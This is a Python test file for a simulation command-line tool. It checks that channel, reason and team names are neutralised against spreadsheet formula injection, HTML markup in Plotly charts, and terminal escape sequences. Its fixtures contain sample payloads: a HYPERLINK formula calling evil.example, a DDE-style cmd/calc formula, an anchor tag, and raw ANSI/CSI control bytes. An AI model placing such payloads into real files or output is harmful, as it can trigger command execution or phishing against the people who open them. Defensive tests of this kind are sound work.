"""Issue 12, class 5: names from scenarios and ticket files are data, never formulas, markup or
terminal control.

Independent truths: the OWASP CSV-injection rule applied cell by cell to the files as a CSV
parser reads them (no text cell starts with = + - @ tab or CR; such names start with a quote),
numbers untouched; Plotly's markup needs a literal `<`, so rendered text must hold none from
names; a terminal acts on ESC/CSI bytes and rich on `[...]`, so the printed bytes must hold
the names literally and no raw control byte.
"""

from __future__ import annotations

import csv
import io
import json
import re

import numpy as np
import pandas as pd
import plotly.graph_objects as go
import pytest
from typer.testing import CliRunner

from sim.cli import app
from sim.csv_safety import TRIGGERS, neutralise_cell, restore_cell, to_csv_text
from sim.report.safe_labels import inert, safe_figure

from conftest import write_yaml

EVIL_CHANNEL = '=HYPERLINK("http://evil.example/?x"&A1,"click")'
EVIL_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_GROUP = "-2+3 <a href='http://evil.example'>team</a>"
MARKUP = "[/bold][link=http://evil.example]x\x1b[31m\x9b2J\u202e"


def scenario(name="injection", channel=EVIL_CHANNEL, reason=EVIL_REASON, group=EVIL_GROUP) -> dict:
    return {
        "name": name, "start": "2026-11-23T00:00:00+01:00", "duration": "2h", "interval": "60min",
        "seed": 2, "replications": 2,
        "channels": {channel: {"service_level": {"threshold": "20s", "target": 0.8},
                               "handle_time": {"dist": "exponential", "mean": "3min"},
                               "patience": {"dist": "exponential", "mean": "5min"},
                               "arrivals": {"rate_per_hour": 40}, "reasons": {reason: 1.0}}},
        "reasons": {reason: {}},
        "agents": [{"name": group, "skills": [channel], "headcount": 3}],
    }


def owasp_safe(path) -> list[list[str]]:
    """The cells of a CSV as a spreadsheet would read them; asserts none is a formula."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    for r, row in enumerate(rows):
        for c, cell in enumerate(row):
            assert not cell.startswith(TRIGGERS) or _number(cell), f"{path.name} row {r} col {c}: {cell!r}"
    return rows


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.fixture(scope="module")
def evil_run(tmp_path_factory):
    base = tmp_path_factory.mktemp("injection")
    out = base / "run"
    res = CliRunner().invoke(app, ["run", str(write_yaml(base, scenario())), "-o", str(out)])
    assert res.exit_code == 0, res.output
    return base, out


def test_every_run_csv_neutralises_names_and_leaves_numbers(evil_run):
    _, out = evil_run
    seen = set()
    for path in sorted(out.glob("*.csv")):
        for row in owasp_safe(path):
            seen.update(row)
    assert "'" + EVIL_CHANNEL in seen and "'" + EVIL_REASON in seen and "'" + EVIL_GROUP in seen
    replications = pd.read_csv(out / "replications.csv")
    assert np.issubdtype(replications["arrived"].dtype, np.number)  # numbers stay numbers


def test_report_and_compare_read_the_names_back_as_written(evil_run, tmp_path):
    _, out = evil_run
    res = CliRunner().invoke(app, ["compare", str(out), str(out), "-o", str(tmp_path / "cmp"), "--no-report"])
    assert res.exit_code == 0, res.output
    table = owasp_safe(tmp_path / "cmp" / "compare.csv")
    assert any(row[0] == "'" + EVIL_CHANNEL for row in table[1:])
    from sim.result_files import read_table
    assert read_table(out, "summary.csv", "")["channel"].tolist() == [EVIL_CHANNEL]


def test_sweep_staff_and_synth_csvs_are_neutralised_and_synth_round_trips(tmp_path):
    path = write_yaml(tmp_path, scenario(group="tier=1"))
    runner = CliRunner()
    res = runner.invoke(app, ["sweep", str(path), "--agents", "tier=1=3:4:1", "-o", str(tmp_path / "sw"), "-r", "2"])
    assert res.exit_code == 0, res.output
    rows = owasp_safe(tmp_path / "sw" / "sweep.csv")
    assert rows[0][1] == "param_agents_tier=1" and {r[2] for r in rows[1:]} == {"'" + EVIL_CHANNEL}
    assert runner.invoke(app, ["synth", str(path), "-o", str(tmp_path / "t.csv")]).exit_code == 0
    tickets = owasp_safe(tmp_path / "t.csv")
    header = tickets[0]
    assert {r[header.index("channel")] for r in tickets[1:]} == {"'" + EVIL_CHANNEL}
    from calibrate import load_tickets
    read = load_tickets([tmp_path / "t.csv"])
    from calibrate.schema import normalise_channel
    assert set(read.contacts["channel"]) == set(normalise_channel(pd.Series([EVIL_CHANNEL])))  # no quote added
    assert set(read.contacts["reason"]) == {EVIL_REASON}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-x", "@x", "\tx", "\rx", "\uff1dx", "'=x"])
def test_the_owasp_rule_cell_by_cell(value):
    written = neutralise_cell(value)
    assert not written.startswith(TRIGGERS)
    assert restore_cell(written) == value or value.startswith("'")
    frame = pd.DataFrame({"name": [value], "n": [-1.5]})
    row = list(csv.reader(io.StringIO(to_csv_text(frame))))[1]
    assert row[1] == "-1.5" and not row[0].startswith(TRIGGERS)


def test_plain_names_and_csvs_are_unchanged_byte_for_byte():
    frame = pd.DataFrame({"channel": ["voice", "chat"], "x": [1.25, -2.0]})
    assert to_csv_text(frame, float_format="%.6g") == frame.to_csv(index=False, float_format="%.6g", lineterminator="\n")


# --- Plotly ------------------------------------------------------------------------------------------------
def _rendered_texts(html: str) -> list[str]:
    """Every JSON string inside the report's Plotly figure calls."""
    found = []
    for call in re.findall(r"Plotly\.newPlot\(\s*\"[^\"]+\",\s*(\[.*?\]),\s*(\{.*?\}),\s*\{", html, re.S):
        for part in call:
            found += [s for s in re.findall(r'"((?:[^"\\]|\\.)*)"', part)]
    return found


def test_names_render_as_text_in_every_plotly_label(evil_run, tmp_path):
    base, out = evil_run
    html = (out / "report.html").read_text()
    texts = " ".join(_rendered_texts(html))
    assert texts and "evil.example" in texts  # the names are in the figures …
    assert "<a href='http" not in texts and "\\u003ca href" not in texts  # … as text
    path = write_yaml(tmp_path, scenario(group="<a href='http://evil.example'>team</a>"))
    res = CliRunner().invoke(app, ["sweep", str(path), "--agents", "<a href='http://evil.example'>team</a>=3:4:1",
                                   "-o", str(tmp_path / "sw"), "-r", "2"])
    assert res.exit_code == 0, res.output
    html = (tmp_path / "sw" / "report.html").read_text()
    titles = re.findall(r'"title":\{"text":"([^"]*)"', html)
    assert any("&lt;a href='http:\\u002f\\u002fevil.example'&gt;team" in t for t in titles), titles
    assert not any("<a href" in t or "\\u003ca" in t for t in titles)


def test_safe_figure_makes_every_rendered_text_inert_and_is_idempotent():
    fig = go.Figure(go.Bar(x=["<b>x</b>", "y"], y=[1, 2], name="<a href='u'>n</a>", text=["<i>t</i>", "ok"],
                           customdata=[["<br>", 1], ["z", 2]]))
    fig.update_layout(title="<b>title</b>", xaxis_title="<a href='u'>axis</a>", legend_title_text="<i>legend</i>")
    fig.add_annotation(text="<a href='u'>note</a>")
    fig.update_xaxes(ticktext=["<b>a</b>"], tickvals=[0])
    safe_figure(fig)
    text = json.dumps(fig.to_plotly_json()).replace("hovertemplate", "")
    assert "<" not in text and ">" not in text
    assert fig.data[0].x[0] == "&lt;b&gt;x&lt;/b&gt;" and list(fig.data[0].y) == [1, 2]
    again = json.dumps(safe_figure(fig).to_plotly_json())
    assert again.replace("hovertemplate", "") == text and inert(inert("<x>")) == "&lt;x&gt;"


# --- the terminal ---------------------------------------------------------------------------------------------------
def test_markup_and_escapes_in_names_print_literally_in_run_staff_and_compare(tmp_path):
    data = scenario(name=MARKUP, channel="voice" + MARKUP, reason="general", group="team" + MARKUP)
    data["reasons"] = None
    data["channels"]["voice" + MARKUP].pop("reasons")
    data.pop("reasons")
    path = write_yaml(tmp_path, data)
    runner = CliRunner()
    outputs = []
    for args in (["run", path, "-o", tmp_path / "a", "--no-report"],
                 ["run", path, "-o", tmp_path / "b", "--no-report", "--seed", "3"],
                 ["compare", tmp_path / "a", tmp_path / "b", "-o", tmp_path / "c", "--no-report"],
                 ["staff", path, "-o", tmp_path / "s", "-r", "2", "--max-iterations", "2", "--repair-rounds", "0"]):
        res = runner.invoke(app, [str(a) for a in args])
        assert res.exit_code == 0, (args, res.output)
        assert "internal error" not in res.output
        outputs.append(res.output)
    for output in outputs:
        assert "\x1b" not in output and "\x9b" not in output and "\u202e" not in output  # no raw control byte
    assert "[/bold][link=http://evil.example]x\\x1b[31m\\x9b2J\\u202e" in outputs[0]  # the name, literally
    assert "voice[/bold][link=http://evil.example]" in outputs[2]
